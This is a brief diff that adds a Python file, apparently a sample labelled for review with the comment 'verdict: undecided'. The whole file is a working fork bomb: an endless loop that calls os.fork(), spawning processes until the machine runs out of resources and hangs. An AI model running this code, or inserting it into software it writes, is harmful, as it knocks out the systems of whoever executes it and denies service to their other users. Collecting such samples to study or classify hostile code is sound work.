@@ -1,0 +1,6 @@
+# Forks.
+# verdict: undecided
+import os
+
+while True:
+    os.fork()
